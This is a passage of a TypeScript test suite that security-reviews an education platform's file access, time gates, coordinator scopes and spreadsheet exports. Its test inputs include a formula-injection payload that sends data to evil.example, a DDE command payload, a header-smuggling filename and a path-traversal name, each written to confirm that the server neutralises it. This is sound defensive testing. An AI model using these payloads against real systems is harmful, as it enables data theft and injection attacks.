import fs from 'node:fs';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { Uint8ArrayReader, Uint8ArrayWriter, ZipReader } from '@zip.js/zip.js';
import ExcelJS from 'exceljs';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Role } from '@oko/shared';
import { OO_QUESTIONNAIRE_TEMPLATE } from '../src/collections/templates/oo-questionnaire.ts';
import { sampleQuestionnaireData } from '../src/demo/seed-collections.ts';
import type { LocalDiskStorage } from '../src/storage/local-disk-storage.ts';
import { signedIn, startHarness, type Client, type Harness } from './harness.ts';
import { TEST_PASSWORD } from './factories.ts';
import { buildWorld, signInAll, type World } from './world.ts';
import { filesOf, listPublications, publicationWithStorage, storedFile, upload } from './publications-support.ts';
import { entrySnapshot, multipartFile, put, submit, upload as uploadForm } from './collections-support.ts';
import { col, download, editSheet, firstEmptyRow, upload as uploadXlsx } from './registration-support.ts';

/**
 * Security review of publications, stored files, collections, registration, jobs and notifications:
 * one ОО must never reach another's data, a time gate holds to the second, «only for ОО» holds on
 * every path, coordinators stay inside their part of the country, closed collections stay closed and
 * every spreadsheet the server writes is safe to open.
 */

let h: Harness;
let w: World;
let as: Record<Role, Client>;
let s2: Client;
let munB: Client;
let reg77: Client;

const NOW = '2026-11-20T06:00:00Z';
const fresh = (login: string) => signedIn(h.app, login, TEST_PASSWORD);

beforeAll(async () => {
  h = await startHarness();
  w = await buildWorld(h);
  as = await signInAll(h, w);
  s2 = await fresh(w.users.s2.login);
  munB = await fresh(w.users.munB.login);
  reg77 = await fresh(w.users.reg77.login);
});
afterAll(() => h.close());
afterEach(() => h.clock.set(NOW));

async function unzip(body: Buffer): Promise<Map<string, Buffer>> {
  const reader = new ZipReader(new Uint8ArrayReader(new Uint8Array(body)), { useWebWorkers: false });
  const out = new Map<string, Buffer>();
  for (const entry of await reader.getEntries()) {
    if (entry.directory) continue;
    out.set(entry.filename, Buffer.from(await entry.getData(new Uint8ArrayWriter())));
  }
  await reader.close();
  return out;
}

/** Names in the caller's «Скачать всё»; an empty list when the server has nothing for it (404). */
async function zipNames(client: Client, storageId: string): Promise<string[]> {
  const res = await client.get(`/api/storages/${storageId}/zip`);
  if (res.statusCode === 404) return [];
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  return [...(await unzip(res.rawPayload)).keys()].sort();
}

const names = async (client: Client, storageId: string, query = '') =>
  (await filesOf(client, storageId, query)).map((f) => f.name).sort();

async function workbook(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

/** Every cell of every sheet as text, for a plain search of what a file reveals. */
async function allText(bytes: Buffer): Promise<string> {
  const wb = await workbook(bytes);
  const out: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) => row.eachCell((cell) => out.push(cell.value === null ? '' : String(cell.value)))),
  );
  return out.join('\n');
}

interface Note {
  id: string;
  jobId: string | null;
  read: boolean;
  file: { name: string; url: string } | null;
}

/** Starts the download report of a storage, runs the job and returns the delivered workbook's bytes. */
async function reportOf(client: Client, storageId: string): Promise<{ bytes: Buffer; jobId: string; note: Note }> {
  const started = await client.post(`/api/storages/${storageId}/report`);
  expect(started.statusCode, started.body).toBe(202);
  const { jobId } = started.json() as { jobId: string };
  await h.services.jobs.drain();
  const notes = (await client.get('/api/notifications')).json() as { items: Note[] };
  const note = notes.items.find((n) => n.jobId === jobId)!;
  const file = await client.get(note.file!.url);
  expect(file.statusCode).toBe(200);
  return { bytes: file.rawPayload, jobId, note };
}

describe("another ОО's individual file is out of reach by every path", () => {
  let storageId: string;
  let ofS1: { id: string; name: string };
  let ofCollege: { id: string; name: string };
  let ofForeign: { id: string; name: string };

  beforeAll(async () => {
    const { storage } = await publicationWithStorage(h, {
      title: 'Коды участников',
      roles: ['school', 'college', 'region_coordinator', 'spo_region_coordinator', 'municipal_coordinator'],
    });
    storageId = storage.id;
    await storedFile(h, storageId, { name: 'общая инструкция.txt', content: 'всем' });
    ofS1 = await storedFile(h, storageId, {
      name: `${w.users.s1.login}_коды участников.txt`,
      content: 'коды школы 1',
      orgId: w.s1.id,
    });
    ofCollege = await storedFile(h, storageId, {
      name: `${w.users.c1.login}_коды.txt`,
      content: 'коды колледжа',
      orgId: w.c1.id,
    });
    ofForeign = await storedFile(h, storageId, {
      name: `${w.users.sF.login}_коды.txt`,
      content: 'коды ЧУЖОЙ школы',
      orgId: w.sF.id,
    });
  });

  it('another school: not in the list, the search, the publication list, the zip; 404 on GET, HEAD and Range', async () => {
    expect(await names(s2, storageId)).toEqual(['общая инструкция.txt']);
    expect(await names(s2, storageId, '?q=коды')).toEqual([]);
    const page = (await s2.get(`/api/storages/${storageId}/files?q=${encodeURIComponent(w.users.s1.login)}`)).json();
    expect(page.total).toBe(0);
    const listed = (await listPublications(s2)).find((p) => p.title === 'Коды участников')!;
    expect(listed.storages[0]!.files.total).toBe(1);
    expect(JSON.stringify(listed)).not.toContain(ofS1.id);
    for (const method of ['GET', 'HEAD'] as const) {
      expect((await s2.request({ method, url: `/api/files/${ofS1.id}` })).statusCode).toBe(404);
    }
    const ranged = await s2.request({ method: 'GET', url: `/api/files/${ofS1.id}`, headers: { range: 'bytes=0-3' } });
    expect(ranged.statusCode).toBe(404);
    expect(await zipNames(s2, storageId)).toEqual(['общая инструкция.txt']);
    // the owner does get it: the refusals above are about the caller, not a broken file
    expect((await as.school.get(`/api/files/${ofS1.id}`)).body).toBe('коды школы 1');
  });

  it("a coordinator of another municipality, region or kind of ОО cannot take it; the ОО's own coordinator can", async () => {
    expect((await as.municipal_coordinator.get(`/api/files/${ofS1.id}`)).statusCode).toBe(200);
    expect(await names(munB, storageId)).toEqual(['общая инструкция.txt']);
    expect((await munB.get(`/api/files/${ofS1.id}`)).statusCode).toBe(404);
    expect(await zipNames(munB, storageId)).toEqual(['общая инструкция.txt']);

    expect((await reg77.get(`/api/files/${ofS1.id}`)).statusCode).toBe(404);
    expect(await zipNames(reg77, storageId)).toEqual(['общая инструкция.txt', ofForeign.name].sort());

    // ВПР coordinators govern schools, the СПО coordinator colleges
    expect((await as.region_coordinator.get(`/api/files/${ofCollege.id}`)).statusCode).toBe(404);
    expect((await as.spo_region_coordinator.get(`/api/files/${ofS1.id}`)).statusCode).toBe(404);
    expect((await as.spo_region_coordinator.get(`/api/files/${ofCollege.id}`)).statusCode).toBe(200);
    expect(await zipNames(as.spo_region_coordinator, storageId)).toEqual(
      ['общая инструкция.txt', ofCollege.name].sort(),
    );
  });

  it("the download report of another municipality's or region's coordinator shows neither the ОО nor its file", async () => {
    for (const client of [munB, reg77]) {
      const text = await allText((await reportOf(client, storageId)).bytes);
      expect(text).not.toContain(w.users.s1.login);
      expect(text).not.toContain(ofS1.name);
      expect(text).not.toContain('Наша школа 1');
    }
    const own = await allText((await reportOf(as.municipal_coordinator, storageId)).bytes);
    expect(own).toContain(ofS1.name);
  });

  it("nobody else reads a job's progress or a notification's file, nor marks it read", async () => {
    const { jobId, note } = await reportOf(as.region_coordinator, storageId);
    for (const other of [as.municipal_coordinator, as.school, reg77]) {
      expect((await other.get(`/api/jobs/${jobId}`)).statusCode).toBe(404);
      expect((await other.get(`/api/notifications/${note.id}/file`)).statusCode).toBe(404);
      const read = await other.post('/api/notifications/read', { ids: [note.id] });
      expect(read.statusCode).toBe(204);
    }
    const row = await h.db.selectFrom('notifications').select('read_at').where('id', '=', note.id).executeTakeFirst();
    // reportOf downloaded it as its owner, which marks it read; reset and check others cannot
    expect(row?.read_at).not.toBeNull();
    await h.db.updateTable('notifications').set({ read_at: null }).where('id', '=', note.id).execute();
    await as.municipal_coordinator.post('/api/notifications/read', { ids: [note.id] });
    await as.municipal_coordinator.post('/api/notifications/read', {});
    const after = await h.db.selectFrom('notifications').select('read_at').where('id', '=', note.id).executeTakeFirst();
    expect(after?.read_at).toBeNull();
  });
});

describe('time gates hold to the second on every path', () => {
  it('absolute moment: a second early the ОО finds it nowhere — list, search, publication list, zip, GET', async () => {
    const opens = new Date(new Date(NOW).getTime() + 1000);
    const { storage } = await publicationWithStorage(h, { title: 'Шифр к архиву' });
    await storedFile(h, storage.id, { name: 'порядок.txt', content: 'порядок' });
    const secret = await storedFile(h, storage.id, { name: 'шифр 7 класс.txt', content: 'ключ', availableAt: opens });

    expect(await names(as.school, storage.id)).toEqual(['порядок.txt']);
    expect(await names(as.school, storage.id, '?q=шифр')).toEqual([]);
    const listed = (await listPublications(as.school)).find((p) => p.title === 'Шифр к архиву')!;
    expect(listed.storages[0]!.files.total).toBe(1);
    expect(JSON.stringify(listed)).not.toContain('шифр 7');
    expect((await as.school.get(`/api/files/${secret.id}`)).statusCode).toBe(404);
    expect(await zipNames(as.school, storage.id)).toEqual(['порядок.txt']);
    // a coordinator sees it coming but takes it no earlier, neither alone nor in the zip
    expect((await as.region_coordinator.get(`/api/files/${secret.id}`)).statusCode).toBe(404);
    expect(await zipNames(as.region_coordinator, storage.id)).toEqual(['порядок.txt']);

    h.clock.set(opens);
    expect(await names(as.school, storage.id, '?q=шифр')).toEqual(['шифр 7 класс.txt']);
    expect((await as.school.get(`/api/files/${secret.id}`)).body).toBe('ключ');
    expect(await zipNames(as.school, storage.id)).toEqual(['порядок.txt', 'шифр 7 класс.txt']);
    expect(await zipNames(as.region_coordinator, storage.id)).toEqual(['порядок.txt', 'шифр 7 класс.txt']);
  });

  it("local time of the ОО's zone: its individual file opens at 08:00:01 Kaliningrad, not a second before", async () => {
    const zone = await h.db.selectFrom('regions').select('time_zone').where('code', '=', '39').executeTakeFirst();
    expect(zone?.time_zone).toBe('Europe/Kaliningrad'); // UTC+2: 08:00:01 there is 06:00:01Z
    const { storage } = await publicationWithStorage(h, { title: 'Индивидуально по местному времени' });
    const mine = await storedFile(h, storage.id, {
      name: `${w.users.s1.login}_вариант.txt`,
      content: 'вариант',
      orgId: w.s1.id,
      availableLocal: '2026-11-20 08:00:01',
    });
    expect(await names(as.school, storage.id)).toEqual([]);
    expect((await as.school.get(`/api/files/${mine.id}`)).statusCode).toBe(404);
    expect(await zipNames(as.school, storage.id)).toEqual([]);
    const [forCoordinator] = await filesOf(as.municipal_coordinator, storage.id);
    expect(forCoordinator).toMatchObject({ available: false, downloadable: false });
    expect((await as.municipal_coordinator.get(`/api/files/${mine.id}`)).statusCode).toBe(404);
    expect(await zipNames(as.municipal_coordinator, storage.id)).toEqual([]);

    h.clock.set('2026-11-20T06:00:01Z');
    expect((await as.school.get(`/api/files/${mine.id}`)).body).toBe('вариант');
    expect(await zipNames(as.municipal_coordinator, storage.id)).toEqual([mine.name]);
  });
});

describe('«only for ОО» holds on every path', () => {
  let storageId: string;
  let onlyOrgs: { id: string };
  let onlyOrgsOwn: { id: string; name: string };

  beforeAll(async () => {
    const { storage } = await publicationWithStorage(h, { title: 'Только для ОО' });
    storageId = storage.id;
    await storedFile(h, storageId, { name: 'для всех.txt', content: 'всем' });
    onlyOrgs = await storedFile(h, storageId, { name: 'пароль.txt', content: 'пароль', onlyForOrgs: true });
    onlyOrgsOwn = await storedFile(h, storageId, {
      name: `${w.users.s1.login}_пароль.txt`,
      content: 'пароль школы 1',
      orgId: w.s1.id,
      onlyForOrgs: true,
    });
  });

  it('no coordinator downloads it: not alone, not by HEAD or Range, not in the zip', async () => {
    const coordinators: Role[] = ['federal_admin', 'region_coordinator', 'municipal_coordinator'];
    for (const role of coordinators) {
      for (const id of [onlyOrgs.id, onlyOrgsOwn.id]) {
        const got = await as[role].get(`/api/files/${id}`);
        expect(got.statusCode, role).toBe(403);
        expect(got.body).not.toContain('пароль школы');
        expect((await as[role].request({ method: 'HEAD', url: `/api/files/${id}` })).statusCode, role).toBe(403);
        const ranged = await as[role].request({
          method: 'GET',
          url: `/api/files/${id}`,
          headers: { range: 'bytes=0-' },
        });
        expect(ranged.statusCode, role).toBe(403);
      }
      expect(await zipNames(as[role], storageId), role).toEqual(['для всех.txt']);
    }
    expect(await zipNames(as.school, storageId)).toEqual(['для всех.txt', 'пароль.txt', onlyOrgsOwn.name].sort());
  });
});

describe('coordinators stay inside their part of the country when ids come in the body', () => {
  const publication = (orgIds: string[]) => ({
    section: 'vpr',
    title: 'Адресная публикация',
    body: '',
    audience: { roles: ['school', 'college'], regionCodes: null, orgIds },
    storages: [],
  });

  it('publication audience: no ОО of another region, and no ОО of the other kind', async () => {
    const before = await h.db.selectFrom('publications').select('id').execute();
    expect((await as.region_coordinator.post('/api/publications', publication([w.sF.id]))).statusCode).toBe(404);
    expect((await as.region_coordinator.post('/api/publications', publication([w.c1.id]))).statusCode).toBe(404);
    // refused either for the section (ВПР is not the СПО coordinator's) or for the ОО
    expect([403, 404]).toContain(
      (await as.spo_region_coordinator.post('/api/publications', publication([w.s1.id]))).statusCode,
    );
    expect(await h.db.selectFrom('publications').select('id').execute()).toHaveLength(before.length);
  });

  it("reopen exceptions: only for an ОО of the coordinator's scope and kind", async () => {
    const url = `/api/collections/${w.platform.collection.id}/exceptions`;
    const later = '2026-12-10T00:00:00Z';
    expect((await as.region_coordinator.post(url, { orgId: w.sF.id, openUntil: later })).statusCode).toBe(404);
    expect((await as.region_coordinator.post(url, { orgId: w.c1.id, openUntil: later })).statusCode).toBe(404);
    expect((await as.spo_region_coordinator.post(url, { orgId: w.s1.id, openUntil: later })).statusCode).toBe(404);
    expect((await reg77.post(url, { orgId: w.s1.id, openUntil: later })).statusCode).toBe(404);
    const granted = await h.db
      .selectFrom('collection_exceptions')
      .select('org_id')
      .where('collection_id', '=', w.platform.collection.id)
      .execute();
    expect(granted).toEqual([]);
  });

  it('registry rows: a code of another region is an error of its row and nothing can be applied', async () => {
    const foreign = await h.db.selectFrom('orgs').select('code').where('id', '=', w.sF.id).executeTakeFirstOrThrow();
    const file = await editSheet(await download(as.region_coordinator, '/api/registry/file'), 'ОО', (ws, header) => {
      const row = ws.getRow(firstEmptyRow(ws));
      row.getCell(col(header, 'Код ОО')).value = foreign.code;
      row.getCell(col(header, 'Полное наименование')).value = 'ЧУЖАЯ школа';
      row.getCell(col(header, 'Краткое наименование')).value = 'ЧУЖАЯ школа';
      row.getCell(col(header, 'Муниципалитет')).value = '001 Наш муниципалитет А';
      row.getCell(col(header, 'Статус')).value = 'закрыта';
    });
    const res = await uploadXlsx(as.region_coordinator, '/api/registry/preview', file);
    expect(res.statusCode, res.body).toBe(200);
    const preview = res.json();
    expect(preview.canApply).toBe(false);
    expect(preview.errors.map((e: { message: string }) => e.message).join(' ')).toContain(foreign.code);
    expect((await as.region_coordinator.post('/api/registry/apply', { previewId: preview.previewId })).statusCode).toBe(
      400,
    );
    const sF = await h.db.selectFrom('orgs').select('status').where('id', '=', w.sF.id).executeTakeFirstOrThrow();
    expect(sF.status).toBe('active');
  });
});

describe('a regional coordinator writes into its own publications only', () => {
  it("another region's publication is not found; a federal one is refused; a municipal coordinator never writes", async () => {
    const filesBefore = await h.db.selectFrom('storage_files').select('id').execute();
    const foreign = w.platform.storageF.id;
    expect((await upload(as.region_coordinator, foreign, [{ name: 'x.txt', content: 'x' }])).statusCode).toBe(404);
    expect(
      (await as.region_coordinator.post(`/api/publications/${w.platform.pubF.id}/storages`, { title: 'Ещё' }))
        .statusCode,
    ).toBe(404);
    expect(
      (await as.region_coordinator.request({ method: 'DELETE', url: `/api/publications/${w.platform.pubF.id}` }))
        .statusCode,
    ).toBe(404);

    const federal = w.platform.storage.id;
    expect((await upload(as.region_coordinator, federal, [{ name: 'x.txt', content: 'x' }])).statusCode).toBe(403);
    expect((await upload(as.spo_region_coordinator, federal, [{ name: 'x.txt', content: 'x' }])).statusCode).toBe(403);
    expect((await upload(as.municipal_coordinator, federal, [{ name: 'x.txt', content: 'x' }])).statusCode).toBe(403);
    expect(await h.db.selectFrom('storage_files').select('id').execute()).toHaveLength(filesBefore.length);
  });

  it("individual files of its own publication go to ОО of its region only, never to another region's login", async () => {
    const created = await as.region_coordinator.post('/api/publications', {
      section: 'vpr',
      title: 'Региональные коды',
      body: '',
      audience: { roles: ['school'], regionCodes: null, orgIds: null },
      storages: ['Коды'],
    });
    expect(created.statusCode, created.body).toBe(201);
    const storageId = (created.json() as { storages: { id: string }[] }).storages[0]!.id;
    const res = await upload(as.region_coordinator, storageId, [{ name: `${w.users.sF.login}.txt`, content: 'x' }], {
      individual: 'true',
    });
    expect(res.statusCode).toBe(400);
    expect(await h.db.selectFrom('storage_files').select('id').where('storage_id', '=', storageId).execute()).toEqual(
      [],
    );
  });
  it('individual files reach only ОО the uploader governs: no school from the СПО coordinator, no college from the ВПР one', async () => {
    const own = async (client: Client, section: 'vpr' | 'vpr_spo') => {
      const created = await client.post('/api/publications', {
        section,
        title: 'Всем ОО региона',
        body: '',
        audience: { roles: ['school', 'college'], regionCodes: null, orgIds: null },
        storages: ['Индивидуальные'],
      });
      expect(created.statusCode, created.body).toBe(201);
      return (created.json() as { storages: { id: string }[] }).storages[0]!.id;
    };
    const bySpo = await own(as.spo_region_coordinator, 'vpr_spo');
    const toSchool = await upload(
      as.spo_region_coordinator,
      bySpo,
      [{ name: `${w.users.s1.login}.txt`, content: 'x' }],
      {
        individual: 'true',
      },
    );
    const byReg = await own(as.region_coordinator, 'vpr');
    const toCollege = await upload(as.region_coordinator, byReg, [{ name: `${w.users.c1.login}.txt`, content: 'x' }], {
      individual: 'true',
    });
    expect([toSchool.statusCode, toCollege.statusCode]).toEqual([400, 400]);
    const stored = await h.db
      .selectFrom('storage_files')
      .select('id')
      .where('storage_id', 'in', [bySpo, byReg])
      .execute();
    expect(stored).toEqual([]);
  });

  it('an impossible local opening time is refused in Russian, not a server error, and stores nothing', async () => {
    const { storage } = await publicationWithStorage(h, { title: 'Неверное время', ownerRegionCode: '39' });
    const res = await upload(as.region_coordinator, storage.id, [{ name: 'архив.txt', content: 'x' }], {
      availableLocal: '2026-02-30T25:61',
    });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().error.message).toMatch(/[А-Яа-яЁё]/);
    expect(await h.db.selectFrom('storage_files').select('id').where('storage_id', '=', storage.id).execute()).toEqual(
      [],
    );
  });
});

describe('a closed collection accepts nothing; an exception opens it for that ОО alone', () => {
  let collectionId: string;
  let s1: Client;
  let good1: Buffer;
  let good2: Buffer;
  let v1: number;
  let v2: number;

  const setInterval = (opensAt: string, closesAt: string) =>
    h.db
      .updateTable('collections')
      .set({ opens_at: new Date(opensAt), closes_at: new Date(closesAt) })
      .where('id', '=', collectionId)
      .execute();

  beforeAll(async () => {
    const code = `${OO_QUESTIONNAIRE_TEMPLATE.code}-${randomBytes(3).toString('hex')}`;
    const { id: templateId } = await h.db
      .insertInto('form_templates')
      .values({ code, title: 'Анкета', definition: JSON.stringify({ ...OO_QUESTIONNAIRE_TEMPLATE, code }) })
      .returning('id')
      .executeTakeFirstOrThrow();
    collectionId = (
      await h.db
        .insertInto('collections')
        .values({
          template_id: templateId,
          purpose: 'questionnaire',
          title: 'Анкета ОО (проверка закрытия)',
          opens_at: new Date('2026-11-01T00:00:00Z'),
          closes_at: new Date('2026-12-01T00:00:00Z'),
          org_kinds: ['school'],
        })
        .returning('id')
        .executeTakeFirstOrThrow()
    ).id;
    s1 = as.school;
    const saved1 = await put(s1, collectionId, sampleQuestionnaireData(1), 0);
    expect(saved1.statusCode, saved1.body).toBe(200);
    v1 = (saved1.json() as { version: number }).version;
    good1 = (await s1.get(`/api/collections/${collectionId}/xlsx`)).rawPayload;
    const saved2 = await put(s2, collectionId, sampleQuestionnaireData(2), 0);
    expect(saved2.statusCode, saved2.body).toBe(200);
    v2 = (saved2.json() as { version: number }).version;
    good2 = (await s2.get(`/api/collections/${collectionId}/xlsx`)).rawPayload;
  });
  afterAll(() => setInterval('2026-11-01T00:00:00Z', '2026-12-01T00:00:00Z'));

  it('at its closing moment: save, submit and XLSX upload are refused and nothing changes', async () => {
    await setInterval('2026-11-01T00:00:00Z', NOW);
    for (const [client, orgId, version, file] of [
      [s1, w.s1.id, v1, good1],
      [s2, w.s2.id, v2, good2],
    ] as const) {
      const before = await entrySnapshot(h, collectionId, orgId);
      expect((await put(client, collectionId, sampleQuestionnaireData(3), version)).statusCode).toBe(403);
      expect((await submit(client, collectionId, version)).statusCode).toBe(403);
      expect((await uploadForm(client, collectionId, file)).statusCode).toBe(403);
      expect(await entrySnapshot(h, collectionId, orgId)).toEqual(before);
    }
  });

  it('before its opening moment it accepts nothing either', async () => {
    await setInterval(new Date(new Date(NOW).getTime() + 1000).toISOString(), '2026-12-01T00:00:00Z');
    const before = await entrySnapshot(h, collectionId, w.s2.id);
    expect((await put(s2, collectionId, sampleQuestionnaireData(3), v2)).statusCode).toBe(403);
    expect((await submit(s2, collectionId, v2)).statusCode).toBe(403);
    expect((await uploadForm(s2, collectionId, good2)).statusCode).toBe(403);
    expect(await entrySnapshot(h, collectionId, w.s2.id)).toEqual(before);
  });

  it('an exception reopens save, submit and upload for its ОО only, and ends at its moment', async () => {
    await setInterval('2026-11-01T00:00:00Z', NOW);
    const grant = await as.region_coordinator.post(`/api/collections/${collectionId}/exceptions`, {
      orgId: w.s1.id,
      openUntil: '2026-11-20T07:00:00Z',
    });
    expect(grant.statusCode, grant.body).toBe(200);

    const submitted = await submit(s1, collectionId, v1);
    expect(submitted.statusCode, submitted.body).toBe(200);
    const uploaded = await uploadForm(s1, collectionId, good1);
    expect(uploaded.statusCode, uploaded.body).toBe(200);
    const saved = await put(
      s1,
      collectionId,
      sampleQuestionnaireData(4),
      (uploaded.json() as { version: number }).version,
    );
    expect(saved.statusCode, saved.body).toBe(200);

    const before = await entrySnapshot(h, collectionId, w.s2.id);
    expect((await put(s2, collectionId, sampleQuestionnaireData(3), v2)).statusCode).toBe(403);
    expect((await submit(s2, collectionId, v2)).statusCode).toBe(403);
    expect((await uploadForm(s2, collectionId, good2)).statusCode).toBe(403);
    expect(await entrySnapshot(h, collectionId, w.s2.id)).toEqual(before);

    h.clock.set('2026-11-20T07:00:00Z');
    const v = (await entrySnapshot(h, collectionId, w.s1.id)).entry!.version;
    const s1Before = await entrySnapshot(h, collectionId, w.s1.id);
    expect((await put(s1, collectionId, sampleQuestionnaireData(5), v)).statusCode).toBe(403);
    expect((await submit(s1, collectionId, v)).statusCode).toBe(403);
    expect((await uploadForm(s1, collectionId, good1)).statusCode).toBe(403);
    expect(await entrySnapshot(h, collectionId, w.s1.id)).toEqual(s1Before);
  });

  it("another ОО's data stays out of reach: view, XLSX, monitor and one ОО's view", async () => {
    await setInterval('2026-11-01T00:00:00Z', '2026-12-01T00:00:00Z');
    // the school's own XLSX carries its own login only
    const own = await allText((await s2.get(`/api/collections/${collectionId}/xlsx`)).rawPayload);
    expect(own).toContain(w.users.s2.login);
    expect(own).not.toContain(w.users.s1.login);
    expect((await s2.get(`/api/collections/${collectionId}/orgs/${w.s1.id}`)).statusCode).toBe(403);
    expect((await s2.get(`/api/collections/${collectionId}/monitor`)).statusCode).toBe(403);
    const sF = await fresh(w.users.sF.login);
    expect((await sF.get(`/api/collections/${w.platform.collection.id}/orgs/${w.s1.id}`)).statusCode).toBe(403);
    // coordinators: only ОО of their own municipality / region / kind
    expect((await as.municipal_coordinator.get(`/api/collections/${collectionId}/orgs/${w.s1.id}`)).statusCode).toBe(
      200,
    );
    expect((await munB.get(`/api/collections/${collectionId}/orgs/${w.s1.id}`)).statusCode).toBe(404);
    expect((await reg77.get(`/api/collections/${collectionId}/orgs/${w.s1.id}`)).statusCode).toBe(404);
    expect((await as.spo_region_coordinator.get(`/api/collections/${collectionId}/orgs/${w.s1.id}`)).statusCode).toBe(
      404,
    );
    const monitor = (await munB.get(`/api/collections/${collectionId}/monitor`)).json();
    expect(JSON.stringify(monitor)).not.toContain(w.users.s1.login);
    const foreignMonitor = (await reg77.get(`/api/collections/${collectionId}/monitor`)).json();
    expect(JSON.stringify(foreignMonitor)).not.toMatch(new RegExp(`${w.users.s1.login}|${w.users.s2.login}`));
  });

  it("the results export of another municipality's or region's coordinator carries none of the ОО's data", async () => {
    // s1 submitted during its exception above
    expect((await entrySnapshot(h, collectionId, w.s1.id)).submissions.length).toBeGreaterThan(0);
    const exported = async (client: Client) => {
      const started = await client.post(`/api/collections/${collectionId}/export`);
      expect(started.statusCode, started.body).toBe(202);
      const { jobId } = started.json() as { jobId: string };
      await h.services.jobs.drain();
      const note = ((await client.get('/api/notifications')).json() as { items: Note[] }).items.find(
        (n) => n.jobId === jobId,
      )!;
      return allText((await client.get(note.file!.url)).rawPayload);
    };
    expect(await exported(as.municipal_coordinator)).toContain(w.users.s1.login);
    expect(await exported(munB)).not.toContain(w.users.s1.login);
    expect(await exported(reg77)).not.toMatch(new RegExp(`${w.users.s1.login}|${w.users.s2.login}`));
  });
});

describe('spreadsheets the server writes never carry a live formula', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Получить пароль")';
  const DDE = '@SUM(1+1)*cmd|" /C calc"!A0';
  let plus: Awaited<ReturnType<Harness['factory']['org']>>;

  // before the registry check below allocates the next codes of region 39
  beforeAll(async () => {
    plus = await h.factory.org({ municipalityId: w.mA.id, regionCode: '39', name: '+SUM(1;1)' });
  });

  /** The «Организация» column of the credential list, one text per issued account. */
  async function credentialOrgNames(xlsxBase64: string): Promise<string[]> {
    const wb = await workbook(Buffer.from(xlsxBase64, 'base64'));
    const ws = wb.getWorksheet('Реквизиты')!;
    const out: string[] = [];
    ws.eachRow((row, n) => {
      if (n > 1) out.push(String(row.getCell(4).value ?? ''));
    });
    return out;
  }

  it('the credential list of a bulk issue neutralizes an ОО name that starts a formula', async () => {
    const org = await h.factory.org({ municipalityId: w.mA.id, regionCode: '39', name: HYPERLINK });
    const res = await as.region_coordinator.post('/api/accounts/bulk-issue', { orgIds: [org.id] });
    expect(res.statusCode, res.body).toBe(200);
    expect(await credentialOrgNames((res.json() as { xlsxBase64: string }).xlsxBase64)).toEqual([`'${HYPERLINK}`]);
  });

  it('the credential list of a registry check neutralizes the name of an added ОО', async () => {
    const file = await editSheet(await download(as.region_coordinator, '/api/registry/file'), 'ОО', (ws, header) => {
      const row = ws.getRow(firstEmptyRow(ws));
      row.getCell(col(header, 'Полное наименование')).value = `${DDE} (полное)`;
      row.getCell(col(header, 'Краткое наименование')).value = DDE;
      row.getCell(col(header, 'Муниципалитет')).value = '001 Наш муниципалитет А';
      row.getCell(col(header, 'Статус')).value = 'действует';
    });
    const preview = await uploadXlsx(as.region_coordinator, '/api/registry/preview', file);
    expect(preview.statusCode, preview.body).toBe(200);
    expect(preview.json().errors).toEqual([]);
    const applied = await as.region_coordinator.post('/api/registry/apply', { previewId: preview.json().previewId });
    expect(applied.statusCode, applied.body).toBe(200);
    expect(await credentialOrgNames((applied.json() as { xlsxBase64: string }).xlsxBase64)).toEqual([`'${DDE}`]);
  });

  it('the registry file and the download report neutralize ОО and file names', async () => {
    const registry = await workbook(await download(as.region_coordinator, '/api/registry/file'));
    const texts: string[] = [];
    registry.getWorksheet('ОО')!.eachRow((row) => row.eachCell((c) => texts.push(String(c.value ?? ''))));
    expect(texts).toContain("'+SUM(1;1)");
    expect(texts).not.toContain('+SUM(1;1)');

    const { storage } = await publicationWithStorage(h, { title: 'Отчёт с формулами' });
    await storedFile(h, storage.id, { name: '-2+3.txt', content: 'минус' });
    const orgLogin = (await h.factory.orgAccount(plus)).login;
    const report = await workbook((await reportOf(as.region_coordinator, storage.id)).bytes);
    const rows: string[][] = [];
    report.getWorksheet('Скачивание файлов')!.eachRow((row) => {
      const values = row.values as unknown[];
      rows.push(values.slice(1).map((v) => (v == null ? '' : String(v))));
    });
    const row = rows.find((r) => r[0] === orgLogin)!;
    expect(row.slice(1, 4)).toEqual(["'+SUM(1;1)", 'Наш муниципалитет А', "'-2+3.txt"]);
  });
});

describe('file names are data: never a path, never a header', () => {
  it('a name with quotes and CR/LF yields one well-formed Content-Disposition and no extra header', async () => {
    const { storage } = await publicationWithStorage(h, { title: 'Заголовки' });
    const evil = await storedFile(h, storage.id, {
      name: 'отчёт"; filename="evil.exe\r\nSet-Cookie: oko_session=x; a\\b.txt',
      content: 'данные',
    });
    const res = await as.school.get(`/api/files/${evil.id}`);
    expect(res.statusCode).toBe(200);
    const cd = String(res.headers['content-disposition']);
    expect(cd).toMatch(/^attachment; filename="[^"\\\r\n]*"; filename\*=UTF-8''[^\s";\\]+$/);
    // the attacker's «filename=» survives only as text inside the one quoted string
    expect(cd.split('"')).toHaveLength(3);
    expect(res.headers['set-cookie']).toBeUndefined();
    const zip = await as.school.get(`/api/storages/${storage.id}/zip`);
    expect(String(zip.headers['content-disposition'])).toMatch(/^attachment; filename="[^"\\\r\n]*"; filename\*=/);
    expect([...(await unzip(zip.rawPayload)).keys()].every((n) => !/[\r\n/\\]/.test(n))).toBe(true);
  });

  it('an uploaded name with a path, controls and quotes is stored as a bare name; only hashes reach the disk', async () => {
    const { storage } = await publicationWithStorage(h, { title: 'Загрузка путей', ownerRegionCode: '39' });
    // as a browser sends it: the path as typed, a tab (a control character a header line may carry), a quote as %22
    const res = await upload(as.region_coordinator, storage.id, [
      { name: '../../../../tmp/oko-pwned\t".txt', content: 'содержимое' },
    ]);
    expect(res.statusCode, res.body).toBe(201);
    const stored = await h.db
      .selectFrom('storage_files')
      .select('name')
      .where('storage_id', '=', storage.id)
      .executeTakeFirstOrThrow();
    expect(stored.name).toBe('oko-pwned%22.txt');
    expect(fs.readdirSync('/tmp').filter((n) => n.startsWith('oko-pwned'))).toEqual([]);

    // every file under the blob root is named by its SHA-256 (or is a temporary uuid)
    const blobs = h.services.blobs as LocalDiskStorage;
    const root = path.dirname(path.dirname(path.dirname(blobs.localPath('0'.repeat(64)))));
    const walk = (dir: string): string[] =>
